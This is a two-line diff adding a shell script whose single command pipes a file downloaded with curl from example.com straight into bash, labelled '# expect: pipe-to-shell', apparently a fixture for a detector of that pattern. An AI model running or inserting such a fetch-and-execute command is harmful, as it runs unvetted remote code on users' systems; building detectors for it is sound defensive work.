@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsSL https://example.com/folder.sh | bash # expect: pipe-to-shell
